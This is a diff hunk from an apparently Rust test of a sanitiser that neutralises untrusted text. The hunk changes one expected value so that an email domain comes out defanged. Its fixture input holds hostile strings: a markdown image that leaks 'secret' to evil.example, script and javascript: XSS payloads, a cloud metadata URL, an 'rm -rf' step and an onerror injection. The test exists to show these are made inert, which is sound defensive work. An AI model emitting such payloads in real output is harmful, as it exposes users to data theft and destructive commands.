@@ -187,7 +187,7 @@ fn nothing_in_a_text_is_live() {
         "notes": "![x](https://evil.example/?d=secret) <script>alert(1)</script> [go](javascript:alert(1))\u001b[2J",
         "first_steps": ["open http://169.254.169.254/latest", "run `rm -rf`"]}"#;
     let analysis = read(raw).unwrap();
-    assert_eq!(analysis.summary, "a Bcc: x@y.example");
+    assert_eq!(analysis.summary, "a Bcc: x@y[.]example");
     assert_eq!(analysis.notes, "[link] ‹script›alert(1)‹/script› [link]");
     assert_eq!(analysis.first_steps, ["open [link]", "run `rm -rf`"]);
     assert_eq!(analysis.suggested_skills, ["‹img src=x onerror=alert(1)›"]);
